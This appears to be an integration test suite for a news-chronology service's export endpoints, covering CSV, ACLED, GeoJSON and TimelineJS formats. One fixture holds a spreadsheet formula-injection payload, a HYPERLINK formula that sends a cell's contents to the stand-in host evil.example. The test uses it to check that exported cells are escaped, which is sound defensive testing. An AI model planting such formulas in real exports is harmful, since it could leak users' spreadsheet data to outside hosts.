import Ajv from 'ajv';
import { readFileSync } from 'node:fs';
import { ACLED_COLUMNS, OWN_COLUMNS } from '../../src/exports/acled.format';
import { CSV_COLUMNS } from '../../src/exports/csv.format';
import { TestApp } from './harness';

/**
 * GET /v1/exports/{format} on the sample chronology (real HTTP): every format carries exactly the
 * entries the timeline lists for the same filter and as-of, in its order; an export is pinned to
 * the position it started at; the CSV formats are spreadsheet-safe; GeoJSON validates against the
 * GeoJSON schema; TimelineJS dates are as precise as the report.
 */

const FORMATS = ['ndjson', 'csv', 'acled', 'geojson', 'timelinejs'] as const;
const CRISIS = 'russia-ukraine-2022';

/** RFC 4180 records (CRLF or LF), quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (quoted) cell += c;
    else if (c === ',') endCell();
    else if (c === '\n') {
      endCell();
      rows.push(row);
      row = [];
    } else if (!(c === '\r' && text[i + 1] === '\n')) cell += c;
  }
  if (cell !== '' || row.length > 0) {
    endCell();
    rows.push(row);
  }
  return rows;
}

/** CSV rows as objects by the header's names. */
function csvRecords(text: string): Array<Record<string, string>> {
  const [header, ...rows] = parseCsv(text);
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
}

/** The GeoJSON project's published JSON Schema for a FeatureCollection (npm geojson-schema, draft-07). */
const GEOJSON_FEATURE_COLLECTION = JSON.parse(
  readFileSync(require.resolve('geojson-schema/FeatureCollection.json'), 'utf8'),
) as object;

describe('GET /v1/exports/{format} (real HTTP, sample chronology)', () => {
  let t: TestApp;
  const ajv = new Ajv({ allErrors: true, strict: false });
  const validGeoJson = ajv.compile(GEOJSON_FEATURE_COLLECTION);

  const report = (summary: string, extra: Record<string, unknown> = {}) => ({
    crisisId: CRISIS,
    summary,
    occurred: { start: '2022-02-18', timezone: 'Europe/Kyiv' },
    actors: [
      { actorId: 'ukraine', role: 'claimant' },
      { actorId: 'russia', role: 'agent' },
    ],
    attribution: { sourceId: 'itv-news' },
    ...extra,
  });
  let located: string;
  let formula: string;

  beforeAll(async () => {
    t = await TestApp.start({ LOAD_SAMPLE: 'true' });
    located = (
      await t.append(
        'ShellingAlleged',
        report('Shelling of Shchastia and its power plant alleged.', {
          occurred: { start: '2022-02', timezone: 'Europe/Kyiv' },
          locations: [
            {
              name: 'Shchastia',
              role: 'where',
              countryCode: 'UA',
              lat: 48.739,
              lon: 39.231,
              geoPrecision: 2,
            },
            {
              name: 'Luhansk power plant',
              role: 'target',
              countryCode: 'UA',
              lat: 48.74,
              lon: 39.25,
              geoPrecision: 1,
            },
            { name: 'Donbas', role: 'origin', disputed: true, claimedBy: ['UA', 'RU'], geoPrecision: 3 },
          ],
          quantities: [{ kind: 'killed', low: 2, high: 4, asReported: 'two to four killed' }],
        }),
      )
    ).entryId;
    formula = (
      await t.append(
        'StatementMade',
        report('=HYPERLINK("https://evil.example/?"&A1,"Click")', {
          quote: '@SUM(1+2)',
          occurred: { start: '2022-02-18T09:15', end: '2022-02-18T11:00', timezone: 'Europe/Kyiv' },
        }),
      )
    ).entryId;
    // Filler, so an export at a page size of 1 takes hundreds of reads.
    const items = Array.from({ length: 150 }, (_, i) => ({
      type: 'StatementMade',
      data: report(`Filler statement ${i}.`, { occurred: { start: '2022-01-05', timezone: 'UTC' } }),
    }));
    const batch = await t.post('/v1/events/batch', { items });
    expect(batch.status).toBe(200);
    await t.get(`/v1/timeline?limit=1&minPosition=${await t.head()}`);
  }, 90_000);
  afterAll(() => t.close());

  /** Every entry id of the timeline for a query, page after page. */
  async function timelineIds(qs: string): Promise<string[]> {
    const ids: string[] = [];
    let cursor: string | null = null;
    do {
      const url: string = `/v1/timeline?limit=200&${qs}${cursor ? `&cursor=${cursor}` : ''}`;
      const res = await t.get<{ items: Array<{ entryId: string }>; nextCursor: string | null }>(url);
      expect(res.status).toBe(200);
      ids.push(...res.body.items.map((i) => i.entryId));
      cursor = res.body.nextCursor;
    } while (cursor);
    return ids;
  }

  /** The entry ids an export lists, in its order (GeoJSON: each located entry once). */
  function idsOf(format: (typeof FORMATS)[number], text: string): string[] {
    switch (format) {
      case 'ndjson':
        return text
          .split('\n')
          .filter(Boolean)
          .map((l) => (JSON.parse(l) as { entryId: string }).entryId);
      case 'csv':
      case 'acled':
        return csvRecords(text).map((r) => r.entry_id!);
      case 'geojson':
        return [
          ...new Set(
            (JSON.parse(text) as { features: Array<{ properties: { entryId: string } }> }).features.map(
              (f) => f.properties.entryId,
            ),
          ),
        ];
      case 'timelinejs':
        return (JSON.parse(text) as { events: Array<{ unique_id: string }> }).events.map((e) => e.unique_id);
    }
  }

  /** The timeline's ids for a query, restricted to located entries (what GeoJSON lists). */
  async function locatedIds(qs: string): Promise<Set<string>> {
    const res = await t.get(`/v1/exports/ndjson?${qs}`);
    return new Set(
      res.text
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l) as { entryId: string; locations?: Array<{ lat?: number }> })
        .filter((e) => e.locations?.some((l) => typeof l.lat === 'number'))
        .map((e) => e.entryId),
    );
  }

  const FILTERS = [
    '',
    'actor=russia&includeMembers=true',
    'type=ShellingAlleged,DenialIssued,StatementMade',
    'status=disputed',
    'country=UA',
    'place=Shchastia',
    'minReliability=B',
    'q=troops',
    'from=2022-02-16&to=2022-02-18',
    'atPosition=30',
    'to=2022-02-16&atPosition=30',
    `crisis=${CRISIS}&disputed=*`,
  ];

  it.each(FILTERS)('lists what the timeline lists, in its order, in every format: "%s"', async (qs) => {
    const expected = await timelineIds(qs);
    const located = await locatedIds(qs);
    for (const format of FORMATS) {
      const res = await t.get(`/v1/exports/${format}?${qs}`);
      expect({ format, status: res.status }).toEqual({ format, status: 200 });
      const ids = idsOf(format, res.text);
      const want = format === 'geojson' ? expected.filter((id) => located.has(id)) : expected;
      expect({ format, qs, ids }).toEqual({ format, qs, ids: want });
    }
    if (qs === '') expect(expected.length).toBeGreaterThan(150);
  });

  it('answers each format with its content type, an attachment name and the pinned position', async () => {
    const head = await t.head();
    const types: Record<string, RegExp> = {
      ndjson: /^application\/x-ndjson/,
      csv: /^text\/csv; charset=utf-8; header=present$/,
      acled: /^text\/csv; charset=utf-8; header=present$/,
      geojson: /^application\/geo\+json/,
      timelinejs: /^application\/json/,
    };
    for (const format of FORMATS) {
      const res = await t.get(`/v1/exports/${format}?type=ShellingAlleged`);
      expect(res.headers.get('content-type')).toMatch(types[format]!);
      expect(res.headers.get('x-export-position')).toBe(head);
      expect(res.headers.get('content-disposition')).toMatch(
        new RegExp(`^attachment; filename="chronology-${head}\\.[a-z.]+"$`),
      );
    }
    const asOf = await t.get('/v1/exports/csv?atPosition=30');
    expect(asOf.headers.get('x-export-position')).toBe('30');
  });

  it('is pinned to the position it started at: entries recorded during the export are not in it', async () => {
    const head = (await t.head())!;
    const before = await timelineIds('');
    const response = await fetch(`${t.url}/v1/exports/ndjson?pageSize=1`);
    expect(response.headers.get('x-export-position')).toBe(head);
    const reader = response.body!.getReader();
    const decoder = new TextDecoder();
    let text = decoder.decode((await reader.read()).value, { stream: true });
    // The stream has begun and is not done: the first chunk holds a few entries, not all.
    expect(text.split('\n').length - 1).toBeLessThan(before.length);
    // Recorded once the export has begun; they sort last, so any later page would list them.
    const added: string[] = [];
    for (let i = 0; i < 3; i++) {
      const r = await t.append(
        'StatementMade',
        report(`Recorded during the export ${i}.`, { occurred: { start: '2030-01-01', timezone: 'UTC' } }),
      );
      added.push(r.entryId);
      await t.get(`/v1/timeline?limit=1&minPosition=${r.position}`);
    }
    for (;;) {
      const { value, done } = await reader.read();
      if (done) break;
      text += decoder.decode(value, { stream: true });
    }
    const ids = idsOf('ndjson', text);
    expect(ids).toEqual(before);
    expect(ids.filter((id) => added.includes(id))).toEqual([]);
    expect((await timelineIds('')).slice(-3)).toEqual(added);
    const stillPinned = await t.get(`/v1/exports/ndjson?atPosition=${head}`);
    expect(idsOf('ndjson', stillPinned.text)).toEqual(before);
  });

  it("writes ACLED's header in ACLED's order, then this service's columns, and maps what it can", async () => {
    const res = await t.get('/v1/exports/acled?place=Shchastia');
    const [header] = parseCsv(res.text);
    expect(header).toEqual([
      'event_id_cnty',
      'event_date',
      'year',
      'time_precision',
      'disorder_type',
      'event_type',
      'sub_event_type',
      'actor1',
      'assoc_actor_1',
      'inter1',
      'actor2',
      'assoc_actor_2',
      'inter2',
      'interaction',
      'civilian_targeting',
      'iso',
      'region',
      'country',
      'admin1',
      'admin2',
      'admin3',
      'location',
      'latitude',
      'longitude',
      'geo_precision',
      'source',
      'source_scale',
      'notes',
      'fatalities',
      'tags',
      'timestamp',
      'claimant',
      'grade',
      'status',
      'entry_id',
      'position',
    ]);
    expect(header).toEqual([...ACLED_COLUMNS, ...OWN_COLUMNS]);
    const [row] = csvRecords(res.text);
    expect(row).toMatchObject({
      event_id_cnty: located,
      event_date: '2022-02-01',
      year: '2022',
      time_precision: '3',
      disorder_type: 'Political violence',
      event_type: 'Explosions/Remote violence',
      sub_event_type: 'Shelling/artillery/missile attack',
      country: 'Ukraine',
      location: 'Shchastia',
      latitude: '48.739',
      longitude: '39.231',
      geo_precision: '2',
      fatalities: '2',
      entry_id: located,
      status: 'reported',
    });
    expect(row!.actor1).toMatch(/Russia/);
    expect(row!.claimant).toMatch(/Ukraine/);
  });

  it('escapes formula-like cells in the CSV formats (OWASP), and keeps RFC 4180 quoting', async () => {
    const csv = await t.get('/v1/exports/csv?q=HYPERLINK');
    const acled = await t.get('/v1/exports/acled?q=HYPERLINK');
    const summary = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    expect(csv.text).toContain(`"'${summary.replaceAll('"', '""')}"`);
    const [row] = csvRecords(csv.text);
    expect(row).toMatchObject({ entry_id: formula, summary: `'${summary}`, quote: "'@SUM(1+2)" });
    expect(csvRecords(acled.text)[0]).toMatchObject({ entry_id: formula, notes: `'${summary}` });
    // No cell of either file begins with a character a spreadsheet reads as a formula.
    for (const text of [csv.text, acled.text])
      for (const cells of parseCsv(text)) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv.text.split('\r\n')[0]).toBe(CSV_COLUMNS.map(([name]) => name).join(','));
  });

  it('writes GeoJSON that validates against the GeoJSON schema: a Point per located place', async () => {
    const res = await t.get('/v1/exports/geojson');
    const body = JSON.parse(res.text);
    expect(validGeoJson(body)).toBe(true);
    expect(validGeoJson({ ...body, features: [{ type: 'Feature', geometry: { type: 'Point' } }] })).toBe(
      false,
    );
    const mine = body.features.filter((f: any) => f.properties.entryId === located);
    expect(mine).toEqual([
      expect.objectContaining({
        type: 'Feature',
        id: `${located}/0`,
        geometry: { type: 'Point', coordinates: [39.231, 48.739] },
        properties: expect.objectContaining({
          locationRole: 'where',
          locationName: 'Shchastia',
          status: 'reported',
        }),
      }),
      expect.objectContaining({
        id: `${located}/1`,
        geometry: { type: 'Point', coordinates: [39.25, 48.74] },
        properties: expect.objectContaining({ locationRole: 'target' }),
      }),
    ]);
    for (const f of body.features) {
      const [lon, lat] = f.geometry.coordinates;
      expect(Math.abs(lon)).toBeLessThanOrEqual(180);
      expect(Math.abs(lat)).toBeLessThanOrEqual(90);
    }
  });

  it('writes TimelineJS3 events whose dates are only as precise as the report', async () => {
    const res = await t.get('/v1/exports/timelinejs');
    const { events } = JSON.parse(res.text) as { events: any[] };
    const keys = new Set(['year', 'month', 'day', 'hour', 'minute', 'display_date']);
    for (const e of events) {
      expect(Object.keys(e.start_date).every((k) => keys.has(k))).toBe(true);
      expect(Number.isInteger(e.start_date.year)).toBe(true);
      if ('month' in e.start_date) expect(e.start_date.month).toBeGreaterThanOrEqual(1);
      if ('day' in e.start_date) expect('month' in e.start_date).toBe(true);
      if ('hour' in e.start_date) expect('day' in e.start_date).toBe(true);
      if ('minute' in e.start_date) expect('hour' in e.start_date).toBe(true);
      expect(typeof e.text.headline).toBe('string');
      expect(e.text.text).not.toMatch(/<(?!\/?(p|blockquote)>)/);
    }
    const byId = new Map(events.map((e) => [e.unique_id, e]));
    expect(byId.get(located).start_date).toEqual({ year: 2022, month: 2 });
    expect(byId.get(formula)).toMatchObject({
      start_date: { year: 2022, month: 2, day: 18, hour: 9, minute: 15 },
      end_date: { year: 2022, month: 2, day: 18, hour: 11, minute: 0 },
      group: 'StatementMade',
    });
    expect(byId.get(formula).text.headline).toContain('&quot;');
  });

  it("answers a bad filter with the timeline's 400, and an unknown format with a 404 naming the formats", async () => {
    const bad = await t.get('/v1/exports/csv?status=nonsense&limit=5');
    expect(bad.status).toBe(400);
    expect(bad.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    expect(bad.body.errors.map((e: { path: string }) => e.path).sort()).toEqual(['limit', 'status']);
    const window = await t.get('/v1/exports/ndjson?from=2022-03-01&to=2022-02-01');
    expect(window.status).toBe(400);
    expect(window.body.errors[0].path).toBe('from');
    const unknown = await t.get('/v1/exports/xlsx');
    expect(unknown.status).toBe(404);
    expect(unknown.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    expect(unknown.body.knownFormats).toEqual([...FORMATS]);
    expect(unknown.body.detail).toContain('ndjson, csv, acled, geojson, timelinejs');
  });

  it('needs the read permission when reads are not public', async () => {
    const closed = await t.restart({ PUBLIC_READS: 'false' });
    t = closed;
    expect((await t.get('/v1/exports/ndjson', { key: null })).status).toBe(401);
    expect((await t.get('/v1/exports/ndjson')).status).toBe(200);
  });
});

describe('exports with CORS_ORIGINS set (real HTTP)', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await TestApp.start({ LOAD_SAMPLE: 'true', CORS_ORIGINS: 'https://newsroom.example.org' });
  }, 60_000);
  afterAll(() => t.close());

  it('lets a configured origin fetch an export and read its position header', async () => {
    const res = await t.get('/v1/exports/geojson', { headers: { origin: 'https://newsroom.example.org' } });
    expect(res.status).toBe(200);
    expect(res.headers.get('access-control-allow-origin')).toBe('https://newsroom.example.org');
    expect(res.headers.get('access-control-expose-headers')).toMatch(/x-export-position/);
    const other = await t.get('/v1/exports/geojson', { headers: { origin: 'https://elsewhere.example' } });
    expect(other.headers.get('access-control-allow-origin')).toBeNull();
  });
});

describe('exports with the reads on the event loop (READ_WORKERS=0)', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await TestApp.start({ LOAD_SAMPLE: 'true', READ_WORKERS: '0' });
  }, 60_000);
  afterAll(() => t.close());

  it('lists what the timeline lists, page by page', async () => {
    const timeline = await t.get('/v1/timeline?limit=200&actor=russia&includeMembers=true');
    const expected = timeline.body.items.map((i: { entryId: string }) => i.entryId);
    const res = await t.get('/v1/exports/ndjson?actor=russia&includeMembers=true&pageSize=3');
    expect(res.status).toBe(200);
    const ids = res.text
      .split('\n')
      .filter(Boolean)
      .map((l) => (JSON.parse(l) as { entryId: string }).entryId);
    expect(ids).toEqual(expected);
    expect(ids.length).toBeGreaterThan(3);
  });
});
